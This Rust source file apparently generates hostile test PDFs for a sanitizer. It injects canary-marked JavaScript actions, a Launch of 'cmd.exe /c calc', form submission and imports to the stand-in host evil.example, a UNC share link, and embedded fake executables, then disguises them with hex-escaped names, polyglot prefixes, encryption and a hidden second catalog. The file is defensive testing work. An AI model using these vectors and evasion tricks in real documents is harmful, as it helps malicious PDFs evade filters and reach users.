//! PDFs that do something, in every way of writing it down.

use lopdf::{
    Dictionary, Document, EncryptionState, EncryptionVersion, Object, Permissions, SaveOptions, Stream,
    StringFormat, dictionary,
};

use crate::random::Random;

/// Stands in everything hostile: where it is found, something was let through.
pub const CANARY: &str = "EVILCANARY";

fn text(words: &str) -> Object {
    Object::string_literal(format!("{CANARY} {words}"))
}

fn script() -> Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => text("app.alert(1)") }
}

/// A harmless page of text, a picture, and a drawing.
pub fn benign(random: &mut Random) -> Document {
    let mut document = Document::with_version("1.6");
    let tree = document.new_object_id();
    let font = document
        .add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let pixels: Vec<u8> = (0..16 * 16 * 3).map(|_| random.below(256) as u8).collect();
    let picture = document.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => 16, "Height" => 16, "ColorSpace" => "DeviceRGB", "BitsPerComponent" => 8 },
        pixels,
    ));
    let form = document.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 50.into(), 50.into()] },
        b"1 0 0 rg 5 5 40 40 re f".to_vec(),
    ));
    let mut kids: Vec<Object> = Vec::new();
    for page in 0..=random.below(2) {
        let content = format!(
            "BT /F1 24 Tf 40 120 Td (Page {page} of {}) Tj ET q 60 0 0 60 20 20 cm /Im1 Do Q q 1 0 0 1 100 20 cm /Fm1 Do Q 0 0 1 RG 3 w 10 10 180 180 re S",
            random.below(1000)
        );
        let content = document.add_object(Stream::new(dictionary! {}, content.into_bytes()));
        kids.push(document.add_object(dictionary! {
            "Type" => "Page", "Parent" => tree, "Contents" => content, "MediaBox" => vec![0.into(), 0.into(), 200.into(), 200.into()],
            "Rotate" => 90 * random.below(4) as i64,
            "Resources" => dictionary! { "Font" => dictionary! { "F1" => font }, "XObject" => dictionary! { "Im1" => picture, "Fm1" => form } },
        }).into());
    }
    let count = kids.len() as i64;
    document.objects.insert(tree, dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => count }.into());
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => tree });
    document.trailer.set("Root", catalog);
    document
}

fn catalog(document: &mut Document) -> &mut Dictionary {
    document.catalog_mut().unwrap()
}

fn page(document: &mut Document) -> &mut Dictionary {
    let id = document.page_iter().next().unwrap();
    document.get_dictionary_mut(id).unwrap()
}

fn file(document: &mut Document) -> Object {
    let content = document.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        format!("MZ {CANARY}").into_bytes(),
    ));
    document.add_object(dictionary! { "Type" => "Filespec", "F" => text("a.exe"), "EF" => dictionary! { "F" => content } }).into()
}

fn remote() -> Dictionary {
    dictionary! { "Type" => "Filespec", "FS" => "URL", "F" => text("http://evil.example/x") }
}

fn annotation(document: &mut Document, mut annotation: Dictionary) {
    annotation.set("Type", "Annot");
    annotation.set("Rect", vec![Object::from(20), 20.into(), 90.into(), 50.into()]);
    if document.objects.len().is_multiple_of(2) {
        let look = document.add_object(Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 10.into(), 10.into()],
            "OPI" => dictionary! { "1.3" => remote() }, "Ref" => dictionary! { "F" => remote(), "Page" => 0 } },
            b"0 1 0 rg 0 0 10 10 re f".to_vec(),
        ));
        annotation.set("AP", dictionary! { "N" => look });
    }
    let annotation = document.add_object(annotation);
    page(document).set("Annots", vec![annotation.into()]);
}

fn linked(action: Dictionary) -> Dictionary {
    dictionary! { "Subtype" => "Link", "A" => action }
}

/// Something hostile that is put into a document.
type Construct = fn(&mut Document);

pub const CONSTRUCTS: &[(&str, Construct)] = &[
    ("open-action", |d| catalog(d).set("OpenAction", script())),
    ("catalog-aa", |d| catalog(d).set("AA", dictionary! { "WC" => script(), "DS" => script() })),
    ("page-aa", |d| page(d).set("AA", dictionary! { "O" => script() })),
    ("names-script", |d| {
        catalog(d).set(
            "Names",
            dictionary! { "JavaScript" => dictionary! { "Names" => vec![text("x"), script().into()] } },
        )
    }),
    ("script-stream", |d| {
        let code = d.add_object(Stream::new(dictionary! {}, format!("{CANARY} app.alert(1)").into_bytes()));
        catalog(d).set("OpenAction", dictionary! { "S" => "JavaScript", "JS" => code });
    }),
    ("launch", |d| {
        catalog(d).set("OpenAction", dictionary! { "S" => "Launch", "F" => text("cmd.exe"), "Win" => dictionary! { "F" => text("cmd.exe"), "P" => text("/c calc") } })
    }),
    ("uri", |d| annotation(d, linked(dictionary! { "S" => "URI", "URI" => text("http://evil.example") }))),
    ("submit", |d| annotation(d, linked(dictionary! { "S" => "SubmitForm", "F" => remote(), "Flags" => 4 }))),
    ("import", |d| annotation(d, linked(dictionary! { "S" => "ImportData", "F" => remote() }))),
    ("goto-r", |d| {
        annotation(
            d,
            linked(
                dictionary! { "S" => "GoToR", "F" => text("\\\\\\\\evil\\\\share"), "D" => vec![0.into(), "Fit".into()] },
            ),
        )
    }),
    ("goto-e", |d| {
        annotation(
            d,
            linked(dictionary! { "S" => "GoToE", "F" => remote(), "T" => dictionary! { "R" => "C" } }),
        )
    }),
    ("thread", |d| annotation(d, linked(dictionary! { "S" => "Thread", "F" => remote(), "D" => 0 }))),
    ("rendition", |d| {
        annotation(
            d,
            dictionary! { "Subtype" => "Screen", "A" => dictionary! { "S" => "Rendition", "JS" => text("x"), "R" => dictionary! { "S" => "MR", "C" => dictionary! { "S" => "MCD", "D" => remote() } } } },
        )
    }),
    ("movie", |d| {
        annotation(
            d,
            dictionary! { "Subtype" => "Movie", "Movie" => dictionary! { "F" => remote() }, "A" => true },
        )
    }),
    ("sound", |d| {
        let sound = d.add_object(Stream::new(
            dictionary! { "Type" => "Sound", "R" => 8000 },
            CANARY.as_bytes().to_vec(),
        ));
        annotation(d, dictionary! { "Subtype" => "Sound", "Sound" => sound });
    }),
    ("rich-media", |d| {
        let file = file(d);
        annotation(
            d,
            dictionary! { "Subtype" => "RichMedia", "RichMediaContent" => dictionary! { "Assets" => dictionary! { "Names" => vec![text("a.swf"), file] } }, "RichMediaSettings" => dictionary! { "Activation" => dictionary! { "Condition" => "PO" } } },
        );
    }),
    ("three-d", |d| {
        let model = d.add_object(Stream::new(
            dictionary! { "Type" => "3D", "Subtype" => "U3D", "OnInstantiate" => text("x") },
            CANARY.as_bytes().to_vec(),
        ));
        annotation(d, dictionary! { "Subtype" => "3D", "3DD" => model });
    }),
    ("embedded", |d| {
        let file = file(d);
        catalog(d).set(
            "Names",
            dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![text("a"), file] } },
        );
    }),
    ("attachment", |d| {
        let file = file(d);
        annotation(d, dictionary! { "Subtype" => "FileAttachment", "FS" => file });
    }),
    ("associated", |d| {
        let file = file(d);
        catalog(d).set("AF", vec![file.clone()]);
        page(d).set("AF", vec![file]);
    }),
    ("xfa", |d| {
        let form = d.add_object(Stream::new(
            dictionary! {},
            format!("<xdp><script>{CANARY}</script></xdp>").into_bytes(),
        ));
        catalog(d).set("AcroForm", dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => form });
    }),
    ("field", |d| {
        let field = d.add_object(dictionary! { "FT" => "Tx", "T" => text("f"), "AA" => dictionary! { "K" => script(), "F" => script(), "C" => script() } });
        catalog(d)
            .set("AcroForm", dictionary! { "Fields" => vec![field.into()], "CO" => vec![field.into()] });
        annotation(
            d,
            dictionary! { "Subtype" => "Widget", "FT" => "Tx", "Parent" => field, "MK" => dictionary! { "CA" => text("x") } },
        );
    }),
    ("button", |d| {
        annotation(
            d,
            dictionary! { "Subtype" => "Widget", "FT" => "Btn", "A" => dictionary! { "S" => "ResetForm", "Next" => script() } },
        )
    }),
    ("external-stream", |d| {
        let stream = d.add_object(Stream::new(
            dictionary! { "F" => remote(), "FFilter" => "FlateDecode" },
            b"q Q".to_vec(),
        ));
        let id = d.page_iter().next().unwrap();
        let resources = dictionary! { "XObject" => dictionary! { "X" => stream } };
        d.get_dictionary_mut(id).unwrap().set("Resources", resources);
    }),
    ("postscript", |d| {
        let ps = d.add_object(Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "PS" },
            format!("({CANARY}) run").into_bytes(),
        ));
        page(d).set("Resources", dictionary! { "XObject" => dictionary! { "Im1" => ps } });
    }),
    ("alternates", |d| {
        let picture = d.add_object(Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => 1, "Height" => 1, "ColorSpace" => "DeviceGray", "BitsPerComponent" => 8,
            "Alternates" => vec![dictionary! { "Image" => remote() }.into()], "OPI" => dictionary! { "2.0" => remote() }, "Metadata" => text("m") },
            vec![9],
        ));
        page(d).set("Resources", dictionary! { "XObject" => dictionary! { "Im1" => picture } });
    }),
    ("outline", |d| {
        let item = d.add_object(dictionary! { "Title" => text("t"), "A" => script() });
        catalog(d).set("Outlines", dictionary! { "First" => item, "Last" => item, "Count" => 1 });
    }),
    ("base-uri", |d| catalog(d).set("URI", dictionary! { "Base" => text("http://evil.example/") })),
    ("metadata", |d| {
        let meta = d.add_object(Stream::new(
            dictionary! { "Type" => "Metadata", "Subtype" => "XML" },
            CANARY.as_bytes().to_vec(),
        ));
        catalog(d).set("Metadata", meta);
        let info = d.add_object(dictionary! { "Title" => text("t") });
        d.trailer.set("Info", info);
    }),
    ("private", |d| {
        page(d).set("PieceInfo", dictionary! { "Evil" => dictionary! { "Private" => text("x") } });
        page(d).set("Thumb", remote());
        catalog(d).set("Extensions", dictionary! { "EVIL" => dictionary! { "X" => script() } });
        catalog(d)
            .set("Requirements", vec![dictionary! { "S" => "EnableJavaScripts", "RH" => script() }.into()]);
    }),
    ("layers", |d| {
        let layer = d.add_object(dictionary! { "Type" => "OCG", "Name" => "Layer", "Usage" => dictionary! { "CreatorInfo" => dictionary! { "Creator" => text("x") } } });
        catalog(d).set("OCProperties", dictionary! { "OCGs" => vec![layer.into()], "D" => dictionary! { "ON" => vec![layer.into()], "AS" => vec![script().into()] } });
    }),
    ("structure", |d| {
        let file = file(d);
        let element = d.add_object(
            dictionary! { "Type" => "StructElem", "S" => "P", "A" => script(), "AF" => vec![file] },
        );
        catalog(d).set("StructTreeRoot", dictionary! { "Type" => "StructTreeRoot", "K" => element });
    }),
    ("resources", |d| {
        let page = page(d);
        let resources = page.get_mut(b"Resources").unwrap().as_dict_mut().unwrap();
        resources.set("Properties", dictionary! { "P" => dictionary! { "Type" => "OCMD", "VE" => vec![script().into()] }, "Q" => script() });
        resources.set(
            "ExtGState",
            dictionary! { "G" => dictionary! { "HTP" => script(), "CA" => 1, "TR" => script() } },
        );
        resources.set("ColorSpace", dictionary! { "C" => vec!["DeviceN".into(), vec!["X".into()].into(), "DeviceGray".into(), script().into(), script().into()] });
    }),
];

/// Ways of writing a document down.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Writing {
    Plain,
    Escaped,
    ObjectStreams,
    Update,
    NoTable,
    Prefixed,
    Trailing,
    Encrypted,
    Indirect,
    TwoCatalogs,
}

pub const WRITINGS: &[Writing] = &[
    Writing::Plain,
    Writing::Escaped,
    Writing::ObjectStreams,
    Writing::Update,
    Writing::NoTable,
    Writing::Prefixed,
    Writing::Trailing,
    Writing::Encrypted,
    Writing::Indirect,
    Writing::TwoCatalogs,
];

/// A hostile document, written down in one of these ways.
pub fn hostile(construct: Construct, writing: Writing, random: &mut Random) -> Vec<u8> {
    let mut document = benign(random);
    let before = document.clone();
    construct(&mut document);
    if random.chance(3) {
        let more = CONSTRUCTS[random.below(CONSTRUCTS.len())].1;
        more(&mut document);
    }
    if random.chance(2) {
        document.compress();
    }
    let mut bytes = Vec::new();
    match writing {
        Writing::Plain => document.save_to(&mut bytes).unwrap(),
        Writing::Escaped => bytes = written(&document, random, true, true),
        Writing::NoTable => bytes = written(&document, random, false, false),
        Writing::ObjectStreams => {
            let options = SaveOptions::builder().use_object_streams(true).use_xref_streams(true).build();
            document.save_with_options(&mut bytes, options).unwrap();
        }
        Writing::Update => {
            bytes = written(&before, random, false, true);
            let escaped = random.chance(2);
            append(&mut bytes, &document, random, escaped);
        }
        Writing::Prefixed => {
            bytes = format!("<html><script>{CANARY}</script>\n").into_bytes();
            document.save_to(&mut bytes).unwrap();
        }
        Writing::Trailing => {
            document.save_to(&mut bytes).unwrap();
            bytes.extend_from_slice(format!("\nPK\x03\x04<script>{CANARY}</script>").as_bytes());
        }
        Writing::Encrypted => {
            document.trailer.set(
                "ID",
                vec![Object::string_literal("0123456789abcdef"), Object::string_literal("0123456789abcdef")],
            );
            let version = EncryptionVersion::V2 {
                document: &document,
                owner_password: "owner",
                user_password: "",
                key_length: 128,
                permissions: Permissions::all(),
            };
            let state = EncryptionState::try_from(version).unwrap();
            document.encrypt(&state).unwrap();
            document.save_to(&mut bytes).unwrap();
        }
        Writing::Indirect => {
            indirect(&mut document, random);
            bytes = written(&document, random, true, true);
        }
        Writing::TwoCatalogs => {
            // One catalogue for those who read the table, another for those who look for the last one in the file.
            bytes = written(&document, random, true, true);
            let id = document.trailer.get(b"Root").unwrap().as_reference().unwrap().0;
            bytes.extend_from_slice(format!("\n{id} 0 obj <</Type/Catalog/Pages 1 0 R/OpenAction<</S/JavaScript/JS({CANARY})>>>> endobj\n%%EOF").as_bytes());
        }
    }
    bytes
}

/// Puts values of dictionaries into objects of their own.
fn indirect(document: &mut Document, random: &mut Random) {
    let ids: Vec<_> = document.objects.keys().copied().collect();
    for id in ids {
        let Some(Object::Dictionary(dictionary)) = document.objects.get(&id).cloned() else { continue };
        let mut changed = dictionary.clone();
        for (key, value) in dictionary.iter() {
            if key != b"Type" && key != b"Length" && key != b"Parent" && random.chance(2) {
                let moved = document.add_object(value.clone());
                changed.set(key.clone(), moved);
            }
        }
        document.objects.insert(id, changed.into());
    }
}

/// Written by hand: names and strings in other spellings, with or without a table.
fn written(document: &Document, random: &mut Random, spelt: bool, table: bool) -> Vec<u8> {
    let mut out = b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut places = Vec::new();
    for (id, object) in &document.objects {
        places.push((id.0, out.len()));
        put_object(&mut out, id.0, object, random, spelt);
    }
    finish(&mut out, document, &places, random, table, spelt, None);
    out
}

fn append(out: &mut Vec<u8>, document: &Document, random: &mut Random, spelt: bool) {
    let text = String::from_utf8_lossy(out).into_owned();
    let before =
        text.rsplit("startxref\n").next().and_then(|rest| rest.lines().next()?.parse::<usize>().ok());
    let mut places = Vec::new();
    for (id, object) in &document.objects {
        places.push((id.0, out.len()));
        put_object(out, id.0, object, random, spelt);
    }
    finish(out, document, &places, random, true, spelt, before);
}

fn finish(
    out: &mut Vec<u8>,
    document: &Document,
    places: &[(u32, usize)],
    random: &mut Random,
    table: bool,
    spelt: bool,
    before: Option<usize>,
) {
    let start = out.len();
    if table {
        out.extend_from_slice(b"xref\n0 1\n0000000000 65535 f \n");
        for (id, at) in places {
            out.extend_from_slice(format!("{id} 1\n{at:010} 00000 n \n").as_bytes());
        }
    }
    let mut trailer = document.trailer.clone();
    trailer.set("Size", i64::from(document.max_id) + 1);
    if let Some(before) = before {
        trailer.set("Prev", before as i64);
    }
    out.extend_from_slice(b"trailer\n");
    let spelt = spelt && random.chance(2);
    put(out, &trailer.into(), random, spelt);
    out.extend_from_slice(format!("\nstartxref\n{start}\n%%EOF\n").as_bytes());
}

fn put_object(out: &mut Vec<u8>, id: u32, object: &Object, random: &mut Random, spelt: bool) {
    out.extend_from_slice(format!("{id} 0 obj\n").as_bytes());
    match object {
        Object::Stream(stream) => {
            let mut dictionary = stream.dict.clone();
            dictionary.set("Length", stream.content.len() as i64);
            put(out, &dictionary.into(), random, spelt);
            out.extend_from_slice(b"\nstream\n");
            out.extend_from_slice(&stream.content);
            out.extend_from_slice(b"\nendstream");
        }
        other => put(out, other, random, spelt),
    }
    out.extend_from_slice(b"\nendobj\n");
}

fn put(out: &mut Vec<u8>, object: &Object, random: &mut Random, spelt: bool) {
    match object {
        Object::Dictionary(dictionary) => {
            out.extend_from_slice(b"<<");
            for (key, value) in dictionary.iter() {
                put_name(out, key, random, spelt);
                out.push(b' ');
                put(out, value, random, spelt);
                if spelt && random.chance(6) {
                    out.extend_from_slice(b"%>> a remark\n");
                }
            }
            out.extend_from_slice(b">>");
        }
        Object::Array(list) => {
            out.push(b'[');
            for value in list {
                put(out, value, random, spelt);
                out.push(b' ');
            }
            out.push(b']');
        }
        Object::Name(name) => put_name(out, name, random, spelt),
        Object::String(bytes, _) if spelt && random.chance(2) => {
            out.push(b'<');
            out.extend(bytes.iter().flat_map(|byte| format!("{byte:02x}").into_bytes()));
            out.push(b'>');
        }
        Object::String(bytes, _) => {
            out.push(b'(');
            for byte in bytes {
                if spelt && random.chance(3) {
                    out.extend_from_slice(format!("\\{byte:03o}").as_bytes());
                } else if b"()\\".contains(byte) {
                    out.extend([b'\\', *byte]);
                } else {
                    out.push(*byte);
                }
            }
            out.push(b')');
        }
        Object::Reference((id, _)) => out.extend_from_slice(format!("{id} 0 R").as_bytes()),
        Object::Integer(number) => out.extend_from_slice(number.to_string().as_bytes()),
        Object::Real(number) => out.extend_from_slice(number.to_string().as_bytes()),
        Object::Boolean(value) => out.extend_from_slice(value.to_string().as_bytes()),
        Object::Null | Object::Stream(_) => out.extend_from_slice(b"null"),
    }
}

/// `/JavaScript` is `/J#61vaScri#70t` as well (ISO 32000-1 §7.3.5).
fn put_name(out: &mut Vec<u8>, name: &[u8], random: &mut Random, spelt: bool) {
    out.push(b'/');
    for byte in name {
        if (spelt && random.chance(3)) || !byte.is_ascii_alphanumeric() {
            out.extend_from_slice(format!("#{byte:02x}").as_bytes());
        } else {
            out.push(*byte);
        }
    }
}

/// A filled-in field that shows what was written into it.
pub fn filled_in() -> Vec<u8> {
    let mut document = benign(&mut Random(7));
    let font = document
        .add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let look = document.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 140.into(), 20.into()],
        "Resources" => dictionary! { "Font" => dictionary! { "H" => font } } },
        b"BT /H 14 Tf 2 4 Td (Yamada Hanako) Tj ET".to_vec(),
    ));
    let widget = document.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "T" => Object::String(b"name".to_vec(), StringFormat::Literal),
        "V" => Object::string_literal("Yamada Hanako"), "Rect" => vec![30.into(), 150.into(), 170.into(), 170.into()],
        "AP" => dictionary! { "N" => look }, "F" => 4
    });
    page(&mut document).set("Annots", vec![widget.into()]);
    catalog(&mut document).set("AcroForm", dictionary! { "Fields" => vec![widget.into()] });
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).unwrap();
    bytes
}
